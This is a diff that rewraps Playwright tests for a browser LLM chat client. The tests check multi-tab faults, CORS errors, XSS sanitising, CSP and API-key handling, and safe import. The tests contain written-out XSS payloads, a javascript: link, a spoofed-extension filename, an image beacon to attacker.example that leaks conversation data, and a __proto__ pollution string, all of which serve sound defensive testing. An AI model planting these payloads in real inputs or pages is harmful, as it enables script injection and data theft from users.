@@ -65,7 +65,10 @@ async function sharedWorkerCount(context: BrowserContext, page: Page): Promise<n
 }
 
 test.describe('faults', () => {
-  test('fault 7: two tabs send at the same moment: one run; the other tab is told it is busy and keeps its text', async ({ page, context }) => {
+  test('fault 7: two tabs send at the same moment: one run; the other tab is told it is busy and keeps its text', async ({
+    page,
+    context,
+  }) => {
     await addMockProvider(page);
     const model = uniqueModel('mock-slow:tokens=40:delay=40');
     const id = await newConversation(page, model);
@@ -88,7 +91,10 @@ test.describe('faults', () => {
     await expect(winner.getByTestId('composer')).toHaveValue('');
   });
 
-  test('fault 2: a tab’s renderer crashes mid-reply: the worker notices through its lock and the other tab gets the whole reply', async ({ page, context }) => {
+  test('fault 2: a tab’s renderer crashes mid-reply: the worker notices through its lock and the other tab gets the whole reply', async ({
+    page,
+    context,
+  }) => {
     await addMockProvider(page);
     const model = uniqueModel('mock-slow:tokens=80:delay=40');
     const id = await newConversation(page, model);
@@ -98,7 +104,8 @@ test.describe('faults', () => {
     await send(other, 'Go');
     await expect(lastReply(page)).toHaveAttribute('data-status', 'streaming');
     const locks = () => page.evaluate(() => navigator.locks.query());
-    const tabLocks = (snapshot: LockManagerSnapshot) => (snapshot.held ?? []).filter((lock) => lock.name?.startsWith('parley-tab-'));
+    const tabLocks = (snapshot: LockManagerSnapshot) =>
+      (snapshot.held ?? []).filter((lock) => lock.name?.startsWith('parley-tab-'));
     expect(tabLocks(await locks())).toHaveLength(2);
 
     await crashRenderer(context, other);
@@ -110,7 +117,10 @@ test.describe('faults', () => {
     expect(await replyWords(page)).toBe(words(await replyText(model)));
   });
 
-  test('fault 2: the crashed renderer also ran the worker: the other tab recovers the reply as interrupted and Resume completes it', async ({ page, context }) => {
+  test('fault 2: the crashed renderer also ran the worker: the other tab recovers the reply as interrupted and Resume completes it', async ({
+    page,
+    context,
+  }) => {
     await addMockProvider(page);
     const model = uniqueModel('mock-slow:tokens=120:delay=30');
     const id = await newConversation(page, model);
@@ -139,7 +149,9 @@ test.describe('faults', () => {
     await expect(other.locator('[data-testid="message"][data-role="assistant"]')).toHaveCount(1);
   });
 
-  test('fault 6: a provider that refuses browser requests (CORS): the message names CORS and a way out, and the typed message is kept', async ({ page }) => {
+  test('fault 6: a provider that refuses browser requests (CORS): the message names CORS and a way out, and the typed message is kept', async ({
+    page,
+  }) => {
     const blocking = await startMockLlm({ cors: false });
     try {
       await page.goto('/settings');
@@ -156,14 +168,19 @@ test.describe('faults', () => {
       await newConversation(page, 'mock-fast');
       await send(page, 'Can you hear me?');
       await expect(lastReply(page)).toHaveAttribute('data-status', 'error');
-      await expect(lastReply(page).getByTestId('message-error')).toContainText('No CORS does not allow requests from a browser (CORS)');
+      await expect(lastReply(page).getByTestId('message-error')).toContainText(
+        'No CORS does not allow requests from a browser (CORS)',
+      );
       await expect(page.locator('[data-testid="message"][data-role="user"]')).toHaveText(/Can you hear me\?/);
     } finally {
       await blocking.close();
     }
   });
 
-  test('fault 1: every tab closed mid-reply without extendedLifetime: interrupted with the checkpointed text, Resume completes it without repeats', async ({ page, context }) => {
+  test('fault 1: every tab closed mid-reply without extendedLifetime: interrupted with the checkpointed text, Resume completes it without repeats', async ({
+    page,
+    context,
+  }) => {
     // The worker must die with its last tab (the PWA's switch, read in src/client/connect.ts).
     await context.addInitScript(() => localStorage.setItem('parley:extended-lifetime', 'off'));
     await addMockProvider(page);
@@ -237,7 +254,9 @@ async function watchViolations(context: BrowserContext): Promise<void> {
   await context.addInitScript(() => {
     const violations: Array<{ directive: string; blocked: string }> = [];
     (window as unknown as { __violations: typeof violations }).__violations = violations;
-    document.addEventListener('securitypolicyviolation', (event) => violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));
+    document.addEventListener('securitypolicyviolation', (event) =>
+      violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
+    );
   });
 }
 
@@ -246,7 +265,10 @@ async function violations(page: Page): Promise<Array<{ directive: string; blocke
 }
 
 test.describe('hostile content', () => {
-  test('XSS payloads as user input and as model output: nothing runs, links are safe, text stays readable', async ({ page, context }) => {
+  test('XSS payloads as user input and as model output: nothing runs, links are safe, text stays readable', async ({
+    page,
+    context,
+  }) => {
     const dialogs: string[] = [];
     page.on('dialog', (dialog) => {
       dialogs.push(dialog.message());
@@ -276,7 +298,9 @@ test.describe('hostile content', () => {
       const problems: string[] = [];
       const contents = [...document.querySelectorAll('[data-testid="message-content"]')];
       for (const content of contents) {
-        for (const element of content.querySelectorAll('script, iframe, object, embed, style, form, svg, math, base, meta, link, details')) {
+        for (const element of content.querySelectorAll(
+          'script, iframe, object, embed, style, form, svg, math, base, meta, link, details',
+        )) {
           problems.push(`<${element.tagName.toLowerCase()}> survived`);
         }
         for (const element of content.querySelectorAll('*')) {
@@ -288,10 +312,12 @@ test.describe('hostile content', () => {
         }
         for (const link of content.querySelectorAll('a')) {
           if (link.getAttribute('rel') !== 'noopener noreferrer') problems.push(`link without rel: ${link.outerHTML}`);
-          if (link.hasAttribute('href') && !['http:', 'https:'].includes(link.protocol)) problems.push(`unsafe href: ${link.outerHTML}`);
+          if (link.hasAttribute('href') && !['http:', 'https:'].includes(link.protocol))
+            problems.push(`unsafe href: ${link.outerHTML}`);
         }
         for (const image of content.querySelectorAll('img')) {
-          if (image.hasAttribute('src') && !['http:', 'https:'].includes(new URL(image.src).protocol)) problems.push(`unsafe src: ${image.outerHTML}`);
+          if (image.hasAttribute('src') && !['http:', 'https:'].includes(new URL(image.src).protocol))
+            problems.push(`unsafe src: ${image.outerHTML}`);
         }
       }
       return { problems, count: contents.length };
@@ -301,33 +327,55 @@ test.describe('hostile content', () => {
 
     // Readable: what the user typed is shown exactly as typed; the model's words as text (raw
     // HTML in a reply is shown as the source it is).
-    const userTexts = await page.locator('[data-testid="message"][data-role="user"] [data-testid="message-content"]').allTextContents();
+    const userTexts = await page
+      .locator('[data-testid="message"][data-role="user"] [data-testid="message-content"]')
+      .allTextContents();
     expect(userTexts.map((text) => text.trim())).toEqual(PAYLOADS);
     const replies = page.locator('[data-testid="message"][data-role="assistant"] [data-testid="message-content"]');
-    await expect(replies.nth(PAYLOADS.indexOf('&lt;script&gt;alert(1)&lt;/script&gt; stays text'))).toHaveText('You said: <script>alert(1)</script> stays text');
-    await expect(replies.nth(PAYLOADS.indexOf('[a markdown link](javascript:window.__xss=1)'))).toHaveText('You said: a markdown link');
-    await expect(replies.nth(PAYLOADS.indexOf('<div style="position:fixed;inset:0;background:red">an overlay</div>'))).toContainText('an overlay');
+    await expect(replies.nth(PAYLOADS.indexOf('&lt;script&gt;alert(1)&lt;/script&gt; stays text'))).toHaveText(
+      'You said: <script>alert(1)</script> stays text',
+    );
+    await expect(replies.nth(PAYLOADS.indexOf('[a markdown link](javascript:window.__xss=1)'))).toHaveText(
+      'You said: a markdown link',
+    );
+    await expect(
+      replies.nth(PAYLOADS.indexOf('<div style="position:fixed;inset:0;background:red">an overlay</div>')),
+    ).toContainText('an overlay');
     await expect(replies.nth(1)).toHaveText('You said: <img src=x onerror="window.__xss = 1">');
     await expect(replies.last()).toHaveText('You said: a plain link');
     expect(await replies.last().locator('a').getAttribute('target')).toBe('_blank');
     await expect(replies.nth(PAYLOADS.length - 3)).toContainText('invoice\u202Efdp.exe');
     // The first message named the conversation: as text.
-    await expect(page.locator(`[data-testid="conversation-item"][data-id="${id}"]`)).toHaveText('<script>window.__xss = 1</script>');
+    await expect(page.locator(`[data-testid="conversation-item"][data-id="${id}"]`)).toHaveText(
+      '<script>window.__xss = 1</script>',
+    );
 
     // The sanitiser did the work; the CSP only had the remote image (a leak) left to refuse.
-    expect(await violations(page)).toEqual([{ directive: 'img-src', blocked: 'https://attacker.example/leak.png?conversation=secret' }]);
+    expect(await violations(page)).toEqual([
+      { directive: 'img-src', blocked: 'https://attacker.example/leak.png?conversation=secret' },
+    ]);
   });
 
-  test('Content-Security-Policy: present, scripts only from the app, and an injected inline script does not run', async ({ page, context }) => {
+  test('Content-Security-Policy: present, scripts only from the app, and an injected inline script does not run', async ({
+    page,
+    context,
+  }) => {
     await watchViolations(context);
     await addMockProvider(page);
     const policy = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
-    const directives = Object.fromEntries(policy.split(';').map((part) => part.trim().split(/\s+/)).map(([name, ...values]) => [name, values]));
+    const directives = Object.fromEntries(
+      policy
+        .split(';')
+        .map((part) => part.trim().split(/\s+/))
+        .map(([name, ...values]) => [name, values]),
+    );
     expect(directives['script-src']).toEqual(["'self'"]);
     expect(directives['object-src']).toEqual(["'none'"]);
     expect(directives['base-uri']).toEqual(["'self'"]);
     expect(directives['worker-src']).toEqual(["'self'"]);
-    expect(directives['connect-src']).toEqual(expect.arrayContaining(["'self'", 'https:', 'http://localhost:*', 'http://127.0.0.1:*']));
+    expect(directives['connect-src']).toEqual(
+      expect.arrayContaining(["'self'", 'https:', 'http://localhost:*', 'http://127.0.0.1:*']),
+    );
     expect(policy).not.toMatch(/unsafe-inline|unsafe-eval/);
 
     // A whole session (markdown, highlighted code, settings) needs nothing the policy forbids.
@@ -369,11 +417,16 @@ interface SeenRequest {
 async function watchWorker(page: Page, seen: SeenRequest[], logs: string[]): Promise<void> {
   const session = await page.context().browser()!.newBrowserCDPSession();
   const sharedWorker = async () => {
-    const { targetInfos } = (await session.send('Target.getTargets')) as { targetInfos: Array<{ type: string; targetId: string }> };
+    const { targetInfos } = (await session.send('Target.getTargets')) as {
+      targetInfos: Array<{ type: string; targetId: string }>;
+    };
     return targetInfos.find((target) => target.type === 'shared_worker');
   };
   await expect.poll(async () => Boolean(await sharedWorker())).toBe(true);
-  const { sessionId } = (await session.send('Target.attachToTarget', { targetId: (await sharedWorker())!.targetId, flatten: false })) as { sessionId: string };
+  const { sessionId } = (await session.send('Target.attachToTarget', {
+    targetId: (await sharedWorker())!.targetId,
+    flatten: false,
+  })) as { sessionId: string };
   session.on('Target.receivedMessageFromTarget', (event: { message: string }) => {
     const message = JSON.parse(event.message) as { method?: string; params?: any };
     if (message.method === 'Network.requestWillBeSent') {
@@ -435,21 +488,29 @@ test.describe('API keys', () => {
 
     // The worker's requests were seen; the key went only to the mock, only in the header.
     const withKey = seen.filter((request) => `${request.url}${request.headers}${request.body}`.includes(SECRET));
-    expect(withKey.some((request) => request.from === 'worker' && request.url.startsWith(`${MOCK_URL}/chat/completions`))).toBe(true);
+    expect(withKey.some((request) => request.from === 'worker' && request.url.startsWith(`${MOCK_URL}/chat/completions`))).toBe(
+      true,
+    );
     for (const request of withKey) {
       expect(request.url.startsWith(`${MOCK_URL}/`), request.url).toBe(true);
       expect(request.headers).toContain(`Bearer ${SECRET}`);
       expect(request.url + request.body).not.toContain(SECRET);
     }
     expect(withKey.filter((request) => request.from === 'page')).toEqual([]);
-    const chats = (await mockRequests()).filter((request) => request.path === '/v1/chat/completions' && request.headers.authorization === `Bearer ${SECRET}`);
+    const chats = (await mockRequests()).filter(
+      (request) => request.path === '/v1/chat/completions' && request.headers.authorization === `Bearer ${SECRET}`,
+    );
     expect(chats.length).toBeGreaterThanOrEqual(2);
     expect(logs.join('\n')).not.toContain(SECRET);
   });
 });
 
 /** A Parley export of one conversation; `messages` of them, alternating user and assistant. */
-function exportFile(title: string, messages: number, patch: (message: Record<string, unknown>, index: number) => void = () => undefined): string {
+function exportFile(
+  title: string,
+  messages: number,
+  patch: (message: Record<string, unknown>, index: number) => void = () => undefined,
+): string {
   const conversationId = `imported-${title.toLowerCase().replace(/\W+/g, '-')}-${Date.now()}`;
   return JSON.stringify({
     format: 'parley-export',
@@ -458,7 +519,16 @@ function exportFile(title: string, messages: number, patch: (message: Record<str
     providers: [],
     models: [],
     conversations: [
-      { id: conversationId, title, providerId: '', modelId: '', createdAt: 1_000, updatedAt: Date.now(), usage: { promptTokens: 0, completionTokens: 0 }, cost: 0 },
+      {
+        id: conversationId,
+        title,
+        providerId: '',
+        modelId: '',
+        createdAt: 1_000,
+        updatedAt: Date.now(),
+        usage: { promptTokens: 0, completionTokens: 0 },
+        cost: 0,
+      },
     ],
     messages: Array.from({ length: messages }, (_, index) => {
       const message: Record<string, unknown> = {
@@ -481,7 +551,10 @@ async function importFile(page: Page, name: string, text: string): Promise<void>
 }
 
 test.describe('export and import', () => {
-  test('an export imports into a fresh browser profile; a broken file is refused with the reason and nothing changes', async ({ page, browser }) => {
+  test('an export imports into a fresh browser profile; a broken file is refused with the reason and nothing changes', async ({
+    page,
+    browser,
+  }) => {
     await addMockProvider(page);
     const id = await newConversation(page, 'mock-fast');
     await send(page, 'Plan a trip');
@@ -502,7 +575,11 @@ test.describe('export and import', () => {
       await expect(other.getByTestId('provider-item')).toHaveCount(1);
 
       // Broken: the 12th message of "Trip" has no role. Rejected whole, with the reason.
-      await importFile(other, 'broken.json', exportFile('Trip', 20, (message, index) => void (index === 11 && delete message.role)));
+      await importFile(
+        other,
+        'broken.json',
+        exportFile('Trip', 20, (message, index) => void (index === 11 && delete message.role)),
+      );
       await expect(other.getByTestId('import-error')).toHaveText(
         'This file cannot be imported: message 12 of conversation “Trip” has no role. Nothing was imported.',
       );
@@ -514,7 +591,7 @@ test.describe('export and import', () => {
       await importFile(other, 'proto.json', exportFile('Trip', 3).replace('"title"', '"__proto__":{"polluted":true},"title"'));
       await expect(other.getByTestId('import-error')).toContainText('a field named "__proto__"');
       await expect(other.getByTestId('conversation-item')).toHaveCount(1);
-      expect(await other.evaluate(() => ({} as Record<string, unknown>).polluted)).toBeUndefined();
+      expect(await other.evaluate(() => (({}) as Record<string, unknown>).polluted)).toBeUndefined();
     } finally {
       await fresh.close();
     }
@@ -524,7 +601,9 @@ test.describe('export and import', () => {
     test.setTimeout(120_000);
     await page.goto('/settings');
     await importFile(page, 'long.json', exportFile('Five thousand', 5000));
-    await expect(page.getByTestId('import-report')).toHaveText('Imported 1 conversation, 5,000 messages and 0 providers.', { timeout: 30_000 });
+    await expect(page.getByTestId('import-report')).toHaveText('Imported 1 conversation, 5,000 messages and 0 providers.', {
+      timeout: 30_000,
+    });
     await page.locator('[data-testid="conversation-item"]', { hasText: 'Five thousand' }).click();
     const messages = page.getByTestId('message');
     await expect(messages.last()).toContainText('Message number 4999');
@@ -535,9 +614,9 @@ test.describe('export and import', () => {
     }
     await expect(messages).toHaveCount(5000, { timeout: 30_000 });
     await expect(messages.first()).toContainText('Message number 0');
-    const numbers = await page.locator('[data-testid="message-content"]').evaluateAll((contents) =>
-      contents.map((content) => Number(/Message number (\d+)/.exec(content.textContent ?? '')?.[1])),
-    );
+    const numbers = await page
+      .locator('[data-testid="message-content"]')
+      .evaluateAll((contents) => contents.map((content) => Number(/Message number (\d+)/.exec(content.textContent ?? '')?.[1])));
     expect(numbers).toEqual(Array.from({ length: 5000 }, (_, index) => index));
   });
 });
